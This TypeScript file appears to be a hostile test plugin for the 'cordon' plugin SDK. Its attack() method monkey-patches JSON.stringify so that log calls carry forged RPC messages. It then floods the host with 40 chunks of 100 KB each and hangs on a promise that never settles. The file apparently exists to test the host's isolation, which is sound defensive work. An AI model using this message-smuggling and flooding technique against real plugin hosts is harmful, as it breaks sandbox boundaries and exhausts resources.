import type { PluginContext } from "@cordon/cordon/sdk";

const { stringify } = JSON;

/** Sends a text in the place of a message. */
function send(ctx: PluginContext, text: string) {
  JSON.stringify = () => {
    JSON.stringify = stringify;
    return text;
  };
  ctx.log.info("carrier");
}

export const activate = (ctx: PluginContext): unknown => ({
  attack() {
    send(
      ctx,
      '[{"type":"call","id":900,"method":"call","params":["witness","wait",[null]]},[],[[["params",2,0],7]]]',
    );
    for (let n = 0; n < 40; n++) send(ctx, `{"type":"chunk","stream":7,"value":"${"x".repeat(100_000)}"}`);
    return new Promise<string>(() => {});
  },
});
